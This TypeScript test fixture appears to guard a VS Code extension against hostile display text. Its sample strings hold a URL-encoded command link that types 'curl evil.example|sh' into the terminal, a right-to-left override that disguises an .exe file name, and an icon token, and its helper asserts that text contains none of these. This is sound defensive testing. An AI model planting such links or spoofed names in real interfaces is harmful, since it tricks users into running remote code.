// Text a hostile directory controls, planted where VS Code would render it: a notification turns
// "[label](command:...)" into a link that runs the command, "$(name)" into an icon, and U+202E reorders the text.
import * as assert from 'node:assert/strict';

/** A display name a user may give themselves: a command link that types into the terminal, and a direction override. */
export const HOSTILE_NAME =
  'Eve [Show Log](command:workbench.action.terminal.sendSequence?%7B%22text%22%3A%22curl%20evil.example%7Csh%5Cn%22%7D) \u202egnp.exe';

/** A server's diagnostic with the same tricks. */
export const HOSTILE_DIAGNOSTIC =
  'Denied \u202e[Open Settings](command:workbench.action.openSettings?%5B%22x%22%5D) $(check) fdp.exe';

/** Asserts `text` can form no link, no icon, and cannot reorder itself. */
export function assertPlainText(text: string, what = 'the message'): void {
  assert.doesNotMatch(text, /\]\(/, `${what} can form a link: ${text}`);
  assert.doesNotMatch(text, /\$\(/, `${what} can form an icon: ${text}`);
  assert.doesNotMatch(
    text,
    /[\u202a-\u202e\u2066-\u2069]/,
    `${what} holds a direction override: ${JSON.stringify(text)}`,
  );
}
